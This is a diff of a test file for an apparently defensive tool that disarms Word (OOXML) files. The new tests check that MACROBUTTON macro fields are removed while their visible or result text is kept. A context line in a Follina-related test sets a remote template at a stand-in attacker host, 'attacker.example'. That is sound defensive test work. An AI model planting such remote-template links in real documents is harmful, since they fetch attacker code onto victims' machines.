@@ -139,6 +139,38 @@ describe('OOXML rebuild', () => {
     expect(text).toContain(' PAGE ');
   });
 
+  it('removes MACROBUTTON fields from Word, keeping the text they show as plain text', async () => {
+    const input = await buildWordDocument('dotx', { macroButton: true });
+    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.dotx' }));
+    expect(findingsOf(outcome)).toEqual({ 'vba-macro': 1 });
+    const { text } = await unzipped(outcome.bytes);
+    expect(text).not.toMatch(/MACROBUTTON|NoMacro|instrText|fldChar/);
+    // In the first instruction's run (its own formatting), in order with the text around it.
+    expect(text).toMatch(
+      /Name: <\/w:t><\/w:r><w:r\/><w:r><w:t xml:space="preserve">\[Click here and type your name\] <\/w:t><\/w:r>(<w:r>.*?<\/w:r>|<w:r\/>)*<w:r><w:t xml:space="preserve"> \(required\)/,
+    );
+  });
+
+  it('keeps the result, not the instruction, of a MACROBUTTON field that has one', async () => {
+    const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
+    const input = await buildOpcPackage(
+      [
+        {
+          name: 'word/document.xml',
+          contentType: OOXML_MAIN_TYPES.docx,
+          data: `<d:document xmlns:d="${W}"><d:body><d:p><d:r><d:fldChar d:fldCharType="begin"/></d:r><d:r><d:instrText>MACROBUTTON Run shown</d:instrText></d:r><d:r><d:fldChar d:fldCharType="separate"/></d:r><d:r><d:t>result</d:t></d:r><d:r><d:fldChar d:fldCharType="end"/></d:r></d:p><d:p><d:r><d:fldChar d:fldCharType="begin"/></d:r><d:r><d:instrText>MACROBUTTON Run2 under a prefix</d:instrText></d:r><d:r><d:fldChar d:fldCharType="end"/></d:r></d:p></d:body></d:document>`,
+        },
+      ],
+      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'word/document.xml' }],
+    );
+    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.docx' }));
+    expect(findingsOf(outcome)).toEqual({ 'vba-macro': 2 });
+    const { text } = await unzipped(outcome.bytes);
+    expect(text).not.toMatch(/MACROBUTTON|Run2|shown|instrText/);
+    expect(text).toContain('<d:t>result</d:t>');
+    expect(text).toContain('<d:t xml:space="preserve">under a prefix</d:t>');
+  });
+
   it('removes the Follina family: remote templates, OLE links to mhtml:/ms-msdt:, unsafe hyperlinks', async () => {
     const input = await buildWordDocument('docx', {
       attachedTemplate: 'http://attacker.example/t.dotm',
